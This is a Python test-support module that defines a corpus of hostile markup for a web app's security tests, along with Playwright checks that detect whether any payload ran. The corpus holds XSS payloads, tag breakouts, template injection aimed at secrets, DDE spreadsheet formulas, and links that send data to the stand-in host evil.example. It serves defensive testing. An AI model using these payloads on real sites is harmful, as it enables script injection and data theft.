"""Hostile markup for the markup tests (tests/security/test_markup*.py): the corpus and the browser-side checks.

`MARKUP_CORPUS`: strings a resident, a careless or hostile editor, or an LLM might put where text belongs:
script tags, event handlers on img / svg / details / input, javascript: and data: URLs, iframe srcdoc,
style injection, Markdown links and images, HTML entity and escape tricks, tag breakouts (attribute,
textarea, title, script, comment, noscript), template injection ({{ }}, {% %}, ${ }), the PDF library's
own markup, and spreadsheet formula injection (= + - @) for the CSV / XLSX exports.

Every payload that could run sets `window.__pwned` (or opens a dialog): the pages must leave it undefined.
"""

from dataclasses import dataclass
from pathlib import Path
from typing import Any

from django.conf import settings
from playwright.sync_api import Browser, ConsoleMessage, Dialog, Page

from tests.chatbot.widget_support import WatchedPage, page_open

ARTIFACTS = Path(settings.BASE_DIR) / "var" / "test-artifacts" / "security"


@dataclass(frozen=True)
class HostileMarkup:
    id: str
    kind: str  # html, breakout, style, markdown, entity, template, pdf, formula
    text: str


def _m(number: int, kind: str, text: str) -> HostileMarkup:
    return HostileMarkup(f"m{number:02d}", kind, text)


MARKUP_CORPUS: tuple[HostileMarkup, ...] = (
    # Tags that run script or load something.
    _m(1, "html", "<script>window.__pwned='m01'</script>"),
    _m(2, "html", "<img src=x onerror=\"window.__pwned='m02'\">"),
    _m(3, "html", "<svg onload=\"window.__pwned='m03'\"><circle r=5></circle></svg>"),
    _m(4, "html", "<svg><script>window.__pwned='m04'</script></svg>"),
    _m(5, "html", "<iframe srcdoc=\"<script>parent.__pwned='m05'</script>\"></iframe>"),
    _m(6, "html", "<a href=\"javascript:window.__pwned='m06'\">詳しくはこちら</a>"),
    _m(7, "html", "<body onload=\"window.__pwned='m07'\">"),
    _m(8, "html", "<details open ontoggle=\"window.__pwned='m08'\"><summary>開く</summary></details>"),
    _m(9, "html", "<input autofocus onfocus=\"window.__pwned='m09'\">"),
    _m(10, "html", "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='m10'\">"),
    _m(11, "html", "<object data=\"javascript:window.__pwned='m11'\"></object>"),
    _m(12, "html", "<embed src=\"data:text/html,<script>parent.__pwned='m12'</script>\">"),
    _m(13, "html", '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=\'m13\'">'),
    _m(14, "html", '<base href="https://evil.example/">'),
    _m(15, "html", '<form action="https://evil.example/steal"><button>送信</button></form>'),
    _m(16, "html", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    _m(17, "html", '<img src="https://evil.example/track.png" alt="">'),
    _m(18, "html", '<script src="https://evil.example/x.js"></script>'),
    # Breaking out of an attribute, a textarea, the title, a script block, a comment, noscript.
    _m(19, "breakout", "\"><script>window.__pwned='m19'</script>"),
    _m(20, "breakout", "' onmouseover='window.__pwned=\"m20\"' x='"),
    _m(21, "breakout", "</textarea><script>window.__pwned='m21'</script>"),
    _m(22, "breakout", "</title><script>window.__pwned='m22'</script>"),
    _m(23, "breakout", "</script><script>window.__pwned='m23'</script>"),
    _m(24, "breakout", '<!--<img src="--><img src=x onerror="window.__pwned=\'m24\'"//">'),
    _m(25, "breakout", "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned='m25'>\">"),
    # Style injection.
    _m(26, "style", "<style>body{display:none}</style>"),
    _m(27, "style", '<div style="position:fixed;inset:0;background:red">覆い隠す</div>'),
    _m(28, "style", "<p style=\"background-image:url(javascript:window.__pwned='m28')\">背景</p>"),
    # Markdown.
    _m(29, "markdown", "[詳しくはこちら](javascript:window.__pwned='m29')"),
    _m(30, "markdown", "![画像](https://evil.example/pixel.png)"),
    _m(31, "markdown", "[リンク](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0nbTMxJzwvc2NyaXB0Pg==)"),
    _m(32, "markdown", "**太字** <u>下線</u> # 見出し javascript:window.__pwned='m32'"),
    # HTML entities and escapes (must stay as these characters, never decoded twice).
    _m(33, "entity", "&lt;script&gt;window.__pwned='m33'&lt;/script&gt;"),
    _m(34, "entity", "&#60;img src=x onerror=window.__pwned='m34'&#62;"),
    _m(35, "entity", "&#x3C;svg onload=window.__pwned='m35'&#x3E;"),
    _m(36, "entity", "\\u003cscript\\u003ewindow.__pwned='m36'\\u003c/script\\u003e"),
    # Template injection.
    _m(37, "template", "{{ 7*7 }} {{ request.user.password }} {{ settings.SECRET_KEY }}"),
    _m(38, "template", "{% debug %}{% load static %}{% csrf_token %}"),
    _m(39, "template", "${7*7} #{7*7} <%= 7*7 %>"),
    _m(40, "template", "{{constructor.constructor('window.__pwned=\"m40\"')()}}"),
    # The PDF library's own markup.
    _m(41, "pdf", '<font size="60" color="red">大きな文字</font><a href="javascript:app.alert(1)">x</a>'),
    _m(42, "pdf", '<img src="/etc/passwd" width="100" height="100"/><link href="https://evil.example">x</link>'),
    # Spreadsheet formulas (CSV / XLSX).
    _m(43, "formula", '=HYPERLINK("https://evil.example/?leak="&A1,"詳しくはこちら")'),
    _m(44, "formula", "=cmd|' /C calc'!A0"),
    _m(45, "formula", "+cmd|' /C calc'!A0"),
    _m(46, "formula", "-2+3+cmd|' /C calc'!A0"),
    _m(47, "formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    _m(48, "formula", "=1+1"),
    _m(49, "formula", "-2+3"),
)

FORMULAS = tuple(item for item in MARKUP_CORPUS if item.kind == "formula")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def chunks(texts: list[str], limit: int, separator: str = " ") -> list[str]:
    """The texts joined into as few strings of at most `limit` characters as possible, in order."""
    result: list[str] = []
    current = ""
    for text in texts:
        if current and len(current) + len(separator) + len(text) > limit:
            result.append(current)
            current = ""
        current = f"{current}{separator}{text}" if current else text
    if current:
        result.append(current)
    return result


# ---- in the browser ------------------------------------------------------------------------------------------------

# Elements and attributes only a payload could have put on the page. The pages themselves have no inline script
# or style, no event-handler attributes and nothing from another origin (their Content-Security-Policy forbids it).
INJECTED = """
(origin) => {
  const found = [];
  const show = (el) => el.outerHTML.slice(0, 160);
  const own = (url) => typeof url === "string" && url.startsWith(origin + "/");
  for (const el of document.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    if (["iframe", "frame", "object", "embed", "base", "math", "noscript", "applet", "style"].includes(tag)) {
      found.push(show(el));
    }
    if (tag === "script" && !own(el.src) && el.type !== "application/json") found.push(show(el));
    if (tag === "meta" && el.httpEquiv) found.push(show(el));
    if (tag === "link" && !own(el.href)) found.push(show(el));
    if (tag === "img" && !own(el.getAttribute("src") ? el.src : "")) found.push(show(el));
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value.replace(/\\s+/g, "").toLowerCase();
      if (name.startsWith("on") || name === "srcdoc") found.push(show(el));
      if (["href", "src", "action", "formaction", "data", "xlink:href", "background", "poster"].includes(name)
          && (value.startsWith("javascript:") || value.startsWith("data:text") || value.includes("evil.example"))) {
        found.push(show(el));
      }
      if (name === "style" && /javascript|url\\(|fixed|expression\\(/.test(value)) found.push(show(el));
    }
  }
  return found;
}
"""


def watch(browser: Browser) -> WatchedPage:
    """A fresh browser profile (tests/chatbot/widget_support.py) that also records console errors and dialogs."""
    watched = page_open(browser)

    def on_console(message: ConsoleMessage) -> None:
        # Pages have no favicon: the browser's own request for it is not the page's doing.
        if message.type == "error" and not message.location.get("url", "").endswith("/favicon.ico"):
            text = f"console error: {message.text}"
            if text not in watched.problems and f"console: {message.text}" not in watched.problems:
                watched.problems.append(text)

    def on_dialog(dialog: Dialog) -> None:
        watched.problems.append(f"dialog ({dialog.type}): {dialog.message}")
        dialog.dismiss()

    watched.page.on("console", on_console)
    watched.page.on("dialog", on_dialog)
    return watched


def screenshot(watched: WatchedPage, name: str) -> Path:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    path = ARTIFACTS / f"{name}.png"
    watched.page.screenshot(path=str(path), full_page=True)
    return path


def nothing_ran(page: Page, origin: str) -> list[str]:
    """What a payload did on this page: a script that ran, an element it injected (empty when nothing)."""
    problems: list[str] = []
    pwned: Any = page.evaluate("() => typeof window.__pwned === 'undefined' ? null : String(window.__pwned)")
    if pwned is not None:
        problems.append(f"script ran: window.__pwned = {pwned}")
    problems += [f"injected: {element}" for element in page.evaluate(INJECTED, origin)]
    if page.evaluate("() => getComputedStyle(document.body).display") == "none":
        problems.append("injected style hid the page")
    return problems
